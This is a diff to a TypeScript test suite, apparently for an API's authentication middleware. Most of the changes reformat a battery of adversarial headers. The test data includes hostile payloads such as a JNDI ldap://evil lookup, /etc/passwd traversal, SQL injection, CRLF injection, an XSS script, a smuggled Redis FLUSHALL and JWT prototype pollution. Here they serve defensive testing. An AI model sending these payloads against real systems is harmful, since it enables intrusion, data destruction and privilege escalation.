@@ -23,10 +23,34 @@ async function battery(): Promise<[string, [string, string][]][]> {
     ['huge bearer', [['authorization', `Bearer ${'a'.repeat(100_000)}`]]],
     ['huge x-api-key', [['x-api-key', 'k'.repeat(64_000)]]],
     ['huge jwt', [['authorization', `Bearer ${jwt('{"alg":"HS256"}', JSON.stringify({ sub: 'u', exp: exp(), pad: 'x'.repeat(3000) }))}`]]],
-    ['two Authorization headers, same key', [['authorization', `Bearer ${KEY_A}`], ['authorization', `Bearer ${KEY_A}`]]],
-    ['two Authorization headers, different', [['authorization', `Bearer ${KEY_A}`], ['authorization', 'Bearer ce_sk_other']]],
-    ['two x-api-key headers', [['x-api-key', KEY_A], ['x-api-key', KEY_A]]],
-    ['Authorization and x-api-key differ', [['authorization', `Bearer ${valid}`], ['x-api-key', KEY_A]]],
+    [
+      'two Authorization headers, same key',
+      [
+        ['authorization', `Bearer ${KEY_A}`],
+        ['authorization', `Bearer ${KEY_A}`],
+      ],
+    ],
+    [
+      'two Authorization headers, different',
+      [
+        ['authorization', `Bearer ${KEY_A}`],
+        ['authorization', 'Bearer ce_sk_other'],
+      ],
+    ],
+    [
+      'two x-api-key headers',
+      [
+        ['x-api-key', KEY_A],
+        ['x-api-key', KEY_A],
+      ],
+    ],
+    [
+      'Authorization and x-api-key differ',
+      [
+        ['authorization', `Bearer ${valid}`],
+        ['x-api-key', KEY_A],
+      ],
+    ],
     ['empty Authorization', [['authorization', '']]],
     ['Bearer only spaces', [['authorization', 'Bearer    ']]],
     ['lower-case scheme, tab', [['authorization', `bearer\t${KEY_A}`]]],
@@ -34,6 +58,7 @@ async function battery(): Promise<[string, [string, string][]][]> {
     ['emoji and RTL override', [['authorization', 'Bearer \u{1F511}\u202Eyek']]],
     ['zero-width space in key', [['x-api-key', `${KEY_A.slice(0, 10)}\u200b${KEY_A.slice(10)}`]]],
     ['SQL injection', [['authorization', "Bearer ' OR 1=1 --"]]],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text an attacker sends
     ['JNDI', [['x-api-key', '${jndi:ldap://evil/a}']]],
     ['path traversal', [['x-api-key', '../../../../etc/passwd']]],
     ['percent-encoded null', [['authorization', 'Bearer %00%0d%0aSet-Cookie:x=1']]],
@@ -48,15 +73,36 @@ async function battery(): Promise<[string, [string, string][]][]> {
     ['jwt alg as object', [['authorization', `Bearer ${jwt('{"alg":{"x":1}}', JSON.stringify({ sub: 'u', exp: exp() }))}`]]],
     ['jwt signed with exp 1e308', [['authorization', `Bearer ${await sign({ sub: 'u', exp: 1e308 }, hs256, 'HS256')}`]]],
     ['jwt signed, sub with newline', [['authorization', `Bearer ${await sign({ sub: 'u\nINFO fake log', exp: exp() }, hs256, 'HS256')}`]]],
-    ['jwt signed, __proto__ claims', [['authorization', `Bearer ${jwt('{"alg":"HS256"}', '{"sub":"u","exp":1,"__proto__":{"admin":true}}')}`]]],
+    [
+      'jwt signed, __proto__ claims',
+      [['authorization', `Bearer ${jwt('{"alg":"HS256"}', '{"sub":"u","exp":1,"__proto__":{"admin":true}}')}`]],
+    ],
     ['jwt four parts', [['authorization', `Bearer ${valid}.extra`]]],
     ['valid token with padding', [['authorization', `Bearer ${valid}==`]]],
     ['origin javascript:', [['origin', 'javascript:alert(1)']]],
     ['origin huge', [['origin', `https://${'a'.repeat(10_000)}.com`]]],
-    ['two origins', [['origin', SITE], ['origin', 'https://evil.example']]],
+    [
+      'two origins',
+      [
+        ['origin', SITE],
+        ['origin', 'https://evil.example'],
+      ],
+    ],
     ['origin with path', [['origin', `${SITE}/path`]]],
-    ['cf-connecting-ip injection', [['origin', SITE], ['cf-connecting-ip', '1.2.3.4:6379 FLUSHALL \u00e9']]],
-    ['request id injection', [['x-request-id', '"><script>alert(1)</script>'], ['authorization', `Bearer ${KEY_A}`]]],
+    [
+      'cf-connecting-ip injection',
+      [
+        ['origin', SITE],
+        ['cf-connecting-ip', '1.2.3.4:6379 FLUSHALL \u00e9'],
+      ],
+    ],
+    [
+      'request id injection',
+      [
+        ['x-request-id', '"><script>alert(1)</script>'],
+        ['authorization', `Bearer ${KEY_A}`],
+      ],
+    ],
     ['request id huge', [['x-request-id', 'r'.repeat(5000)]]],
   ]
 }
@@ -69,7 +115,12 @@ describe('adversarial headers', () => {
     const { app } = authApp(await env())
     const seen = new Map<number, number>()
     for (const [name, headers] of await battery()) {
-      for (const [method, path] of [['POST', '/v1/chat'], ['GET', '/v1/models'], ['OPTIONS', '/v1/chat'], ['GET', '/healthz']] as const) {
+      for (const [method, path] of [
+        ['POST', '/v1/chat'],
+        ['GET', '/v1/models'],
+        ['OPTIONS', '/v1/chat'],
+        ['GET', '/healthz'],
+      ] as const) {
         const h = new Headers({ 'content-type': 'application/json' })
         for (const [key, value] of headers) h.append(key, value)
         const res = await app.request(path, { method, headers: h, ...(method === 'POST' && { body: JSON.stringify(hello) }) })
@@ -82,7 +133,9 @@ describe('adversarial headers', () => {
           expect(res.headers.get('content-type'), context).toMatch(/^application\/json/)
           const body = (await res.json()) as { type: string; error: { type: string; message: string }; request_id: string }
           expect(body.type, context).toBe('error')
-          expect(['authentication_error', 'permission_error', 'invalid_request_error', 'request_too_large'], context).toContain(body.error.type)
+          expect(['authentication_error', 'permission_error', 'invalid_request_error', 'request_too_large'], context).toContain(
+            body.error.type,
+          )
           expect(body.error.message.length, context).toBeLessThan(400)
           expect(body.request_id).toBe(requestId)
         } else {
@@ -98,7 +151,9 @@ describe('adversarial headers', () => {
   it('a signed sub with a control character is refused, so it can never reach a log line or a Redis key', async () => {
     const { app } = authApp(await env())
     const key = await crypto.subtle.importKey('raw', new TextEncoder().encode(SECRET), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign'])
-    const res = await app.request('/v1/models', { headers: { authorization: `Bearer ${await sign({ sub: 'u\nx', exp: exp() }, key, 'HS256')}` } })
+    const res = await app.request('/v1/models', {
+      headers: { authorization: `Bearer ${await sign({ sub: 'u\nx', exp: exp() }, key, 'HS256')}` },
+    })
     expect(res.status).toBe(401)
   })
 
